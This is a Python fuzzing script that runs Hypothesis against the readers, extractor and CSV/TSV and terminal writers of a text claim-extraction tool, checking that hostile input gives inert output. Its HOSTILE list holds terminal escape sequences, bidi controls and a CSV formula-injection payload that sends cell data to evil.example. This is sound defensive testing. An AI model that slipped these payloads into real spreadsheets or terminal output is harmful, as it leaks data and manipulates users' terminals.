"""Fuzz the readers, the extractor and the writers: hostile input in, valid, inert output out.

Not a test: run it for as long as you like, e.g. five minutes:

    python benchmarks/fuzz_readers.py --minutes 5

Each example goes the whole way a file goes: bytes -> `claimx.inputs.readers.article_from_bytes`
(encoding detection, binary detection, HTML extraction) -> `Extractor.pipe` -> record. It fails
when an exception escapes, a record does not validate, a span is not the slice of the text it
names, or one example takes more than `--slow` seconds. Hypothesis shrinks each failure to a
minimal input, which is printed (and written to `--out`) as a Python literal to paste into a test.

Two more targets share the run, one example in three each:

- the JSON Lines reader (`claimx.inputs.readers.iter_jsonl`): mutated article lines, lone
  surrogates, deep nesting, `meta` of every JSON type; every line must give one input, and
  every record one line of JSON that encodes as UTF-8 (`claimx.engines.serial.Outcome`);
- the CSV/TSV and terminal writers: articles whose title, publication, text and path carry
  formula leads, escape sequences, bidi controls and line separators; no CSV/TSV cell (read
  back with `csv`) may start a formula, and the terminal view and table (styled or not) may
  hold no control character but newline and Rich's own colour codes.

Inputs are drawn from: random bytes; real-looking articles in every encoding the reader knows,
with random byte flips, insertions and truncations; HTML pages around random text; text made of
quotes, dashes, cues, names and newlines (the pieces the rules react to); and long runs of a single
character (the shape that makes backtracking regexes explode).
"""

from __future__ import annotations

import argparse
import json
import re
import sys
import time
import traceback
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from claimx.engines.extractor import Extractor
from claimx.engines.serial import Outcome
from claimx.inputs.article import ArticleInput
from claimx.inputs.readers import article_from_bytes, iter_jsonl
from claimx.schema import DocumentRecord, iter_spans

ARTICLE = (
    "Chip race heats up\n\n"
    "\u201cThe new chip is faster than the A100,\u201d said Jane Smith, an analyst at Acme Research. "
    "She added that it \u2018may\u2019 ship next year.\n\n"
    "According to the company, sales rose 20% \u2014 a record. Officials said the rules would stay.\n"
)
SEEDS = [
    ARTICLE.encode("utf-8"),
    ARTICLE.encode("utf-8-sig"),
    ARTICLE.encode("utf-16"),
    ARTICLE.encode("utf-16-be"),
    ARTICLE.encode("utf-32"),
    ARTICLE.encode("cp1252"),
    ARTICLE.replace("\u201c", '"')
    .replace("\u201d", '"')
    .replace("\u2018", "'")
    .replace("\u2019", "'")
    .replace("\u2014", "-")
    .encode("latin-1"),
    f"<!DOCTYPE html><html><head><title>T</title><meta name=author content='A B'></head><body><article><p>{ARTICLE}</p></article></body></html>".encode(),
    b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    b"%PDF-1.4\n" + ARTICLE.encode(),
]
PIECES = [
    '"',
    "\u201c",
    "\u201d",
    "'",
    "\u2018",
    "\u2019",
    "\u2014",
    "\u2013",
    "-",
    " ",
    "\n",
    "\n\n",
    ",",
    ".",
    ":",
    "said",
    " said ",
    "says",
    "according to",
    "told reporters",
    "claimed",
    "argued",
    "may",
    "could",
    "Jane Smith",
    "he",
    "she",
    "they",
    "the company",
    "Reuters",
    "Nvidia",
    "Huawei",
    "Ascend 910B",
    "GPT-4",
    "faster than",
    "outperforms",
    "the A100",
    "if",
    "Source: SCMP",
    "\u00e9",
    "\u4e2d\u6587",
    "\U0001f600",
    "\x00",
    "\x07",
    "\u200b",
    "\ufeff",
    "\r\n",
    "<p>",
    "</p>",
    "&amp;",
    "\t",
]
# What an attacker puts in text meant for a terminal, a spreadsheet or a JSON Lines reader.
HOSTILE = [
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "\x1b]52;c;aGk=\x07",
    "\x1b]8;;http://evil.example\x1b\\",
    "\x9b31m",
    "\u202e",
    "\u2066",
    "\u2028",
    "\u2029",
    "\x08",
    "\r",
    "=",
    "+",
    "-",
    "@",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "\ud800",
    "\udcff",
]


@st.composite
def mutated(draw) -> bytes:
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(0, 8))):
        op = draw(st.sampled_from(["flip", "insert", "delete", "truncate", "repeat"]))
        at = draw(st.integers(0, max(0, len(data) - 1)))
        if op == "flip" and data:
            data[at] = draw(st.integers(0, 255))
        elif op == "insert":
            data[at:at] = draw(st.binary(max_size=8))
        elif op == "delete":
            del data[at : at + draw(st.integers(1, 16))]
        elif op == "truncate":
            del data[at:]
        elif op == "repeat" and data:
            data[at:at] = data[at : at + 4] * draw(st.integers(1, 50))
    return bytes(data)


newsy = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=10)), max_size=80).map("".join)
runs = st.builds(
    lambda ch, n: ch * n,
    st.sampled_from(['"', "\u201c", "-", "\u2014", " ", "\n", ".", "'", "a"]),
    st.integers(1, 400),
)
html_around = st.builds(lambda t: f"<html><body><div><p>{t}</p></div></body></html>", newsy)

INPUTS = st.one_of(
    st.binary(max_size=2000),
    mutated(),
    newsy.map(lambda t: t.encode("utf-8")),
    newsy.flatmap(
        lambda t: st.sampled_from(["utf-16", "utf-32", "utf-8-sig"]).map(
            lambda e: t.encode(e, "surrogatepass")
        )
    ),
    html_around.map(lambda t: t.encode("utf-8")),
    runs.map(lambda t: t.encode("utf-8")),
)


hostile_text = st.lists(
    st.one_of(st.sampled_from(PIECES + HOSTILE), st.text(max_size=6)), max_size=60
).map("".join)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | hostile_text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
    max_leaves=12,
)


@st.composite
def jsonl_lines(draw) -> bytes:
    """Lines of JSON Lines articles, some broken: the reader must give one input per line."""
    lines = []
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["article", "article", "value", "deep", "bytes"]))
        if kind == "article":
            obj = {"text": draw(hostile_text)}
            for key in ("title", "publication", "url", "path", "id", "meta", "extra"):
                if draw(st.booleans()):
                    obj[key] = draw(json_values)
            line = json.dumps(obj, ensure_ascii=draw(st.booleans()))
            lines.append(line.encode("utf-8", "surrogatepass"))
        elif kind == "value":
            lines.append(json.dumps(draw(json_values)).encode())
        elif kind == "deep":
            lines.append(draw(st.sampled_from([b"[", b'{"a":'])) * draw(st.integers(1, 50_000)))
        else:
            lines.append(draw(mutated()).replace(b"\n", b" "))
    return b"\n".join(lines) + b"\n"


articles_for_writers = st.builds(
    lambda text, title, publication, path: ArticleInput(
        text=text, title=title, publication=publication, path=path
    ),
    hostile_text,
    hostile_text,
    hostile_text,
    hostile_text,
)


class SlowExample(AssertionError):
    """One example took longer than the --slow budget."""


def check(extractor: Extractor, data: bytes, name: str, slow: float) -> None:
    """The property: one valid record, true spans, in reasonable time."""
    start = time.process_time()
    article = article_from_bytes(data, path=name)
    assert (article.text is None) == (article.error is not None)
    (record,) = list(extractor.pipe([article]))
    dumped = record.model_dump(mode="json")
    DocumentRecord.model_validate(dumped)
    if record.error is None:
        text = article.text
        assert record.document.chars == len(text)
        for _, span in iter_spans(dumped["claims"]):
            assert text[span["start"] : span["end"]] == span["text"], span
    else:
        assert record.claims == [] and "\n" not in record.error.message
    took = time.process_time() - start
    if took > slow:
        raise SlowExample(f"{took:.1f} s CPU for {len(data)} bytes")


def check_jsonl(extractor: Extractor, data: bytes, slow: float) -> None:
    """The JSON Lines property: one input per non-blank line, one UTF-8 JSON line per record."""
    import io

    start = time.process_time()
    arts = list(iter_jsonl(io.BytesIO(data), source="in.jsonl"))
    assert len(arts) == sum(1 for line in data.split(b"\n") if line.strip()), arts
    for art in arts:
        assert (art.text is None) == (art.error is not None)
    for record in extractor.pipe(arts):
        line = Outcome.of(record).as_line()
        line.encode("utf-8")
        assert len(line.splitlines()) == 1
        DocumentRecord.model_validate_json(line)
    if time.process_time() - start > slow:
        raise SlowExample(f"{time.process_time() - start:.1f} s CPU for {len(data)} bytes")


# Rich's own styling: Select Graphic Rendition sequences, and nothing else.
_SGR = re.compile(r"\x1b\[[0-9;]*m")
_UNSAFE_OUT = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def check_writers(extractor: Extractor, article: ArticleInput) -> None:
    """The writers' property: no formula cell in CSV/TSV, no control character on a terminal."""
    import csv
    import io

    from rich.console import Console

    from claimx.outputs.terminal import print_record
    from claimx.outputs.writers import write_records

    record = Outcome.of(next(extractor.pipe([article]))).as_record()
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        out = io.StringIO()
        list(write_records([record], fmt, out))
        # TSV is not quoted (claimx backslash-escapes tabs and newlines in it instead).
        quoting = csv.QUOTE_MINIMAL if fmt == "csv" else csv.QUOTE_NONE
        rows = csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter, quoting=quoting)
        for row in list(rows)[1:]:
            bad = [cell for cell in row if cell.startswith(FORMULA_LEADS)]
            assert not bad, (fmt, bad)
    shown = record.model_copy(update={"text": record.text or article.text})
    for styled in (False, True):
        out = io.StringIO()
        console = Console(
            file=out,
            width=100,
            force_terminal=styled,
            color_system="standard" if styled else None,
            highlight=False,
        )
        print_record(console, shown)
        list(write_records([record], "table", out))
        found = _UNSAFE_OUT.search(_SGR.sub("", out.getvalue()))
        assert found is None, (styled, repr(found.group()) if found else None)


def main(argv: list[str] | None = None) -> int:
    """Run rounds of Hypothesis examples until the time is up; report what failed."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--minutes", type=float, default=5.0, help="how long to fuzz (default 5)")
    parser.add_argument("--round", type=int, default=200, help="examples per Hypothesis round")
    parser.add_argument("--slow", type=float, default=10.0, help="CPU seconds one example may take")
    parser.add_argument(
        "--out", type=Path, default=Path("fuzz-findings.jsonl"), help="where findings go"
    )
    args = parser.parse_args(argv)

    extractor = Extractor()
    deadline = time.monotonic() + args.minutes * 60
    started = time.monotonic()
    examples = 0
    findings: list[dict] = []
    seen: set[str] = set()
    rounds = 0

    while time.monotonic() < deadline:
        rounds += 1

        @settings(
            max_examples=args.round,
            deadline=None,
            database=None,
            phases=[Phase.generate, Phase.shrink],
            suppress_health_check=list(HealthCheck),
            report_multiple_bugs=False,
        )
        @given(
            target=st.sampled_from(["reader", "jsonl", "writers"]),
            data=INPUTS,
            lines=jsonl_lines(),
            article=articles_for_writers,
            name=st.sampled_from(["in.txt", "in.html", "in.md"]),
        )
        def fuzz(target: str, data: bytes, lines: bytes, article: ArticleInput, name: str) -> None:
            nonlocal examples
            examples += 1
            if target == "reader":
                check(extractor, data, name, args.slow)
            elif target == "jsonl":
                check_jsonl(extractor, lines, args.slow)
            else:
                check_writers(extractor, article)

        try:
            fuzz()
        except Exception as exc:  # noqa: BLE001 - every escape is a finding, reported below
            key = f"{type(exc).__name__}: {str(exc).splitlines()[0][:200] if str(exc) else ''}"
            if key not in seen:
                seen.add(key)
                finding = {
                    "error": key,
                    "traceback": traceback.format_exc(limit=6),
                    "round": rounds,
                }
                findings.append(finding)
                print(f"FINDING {key}\n{finding['traceback']}", file=sys.stderr, flush=True)
        print(
            f"round {rounds}: {examples} examples, {len(findings)} findings, {time.monotonic() - started:.0f} s",
            file=sys.stderr,
            flush=True,
        )

    took = time.monotonic() - started
    with args.out.open("w", encoding="utf-8") as fh:
        for finding in findings:
            fh.write(json.dumps(finding) + "\n")
    print(
        json.dumps(
            {
                "seconds": round(took),
                "examples": examples,
                "rounds": rounds,
                "findings": len(findings),
            }
        )
    )
    return 1 if findings else 0


if __name__ == "__main__":
    sys.exit(main())
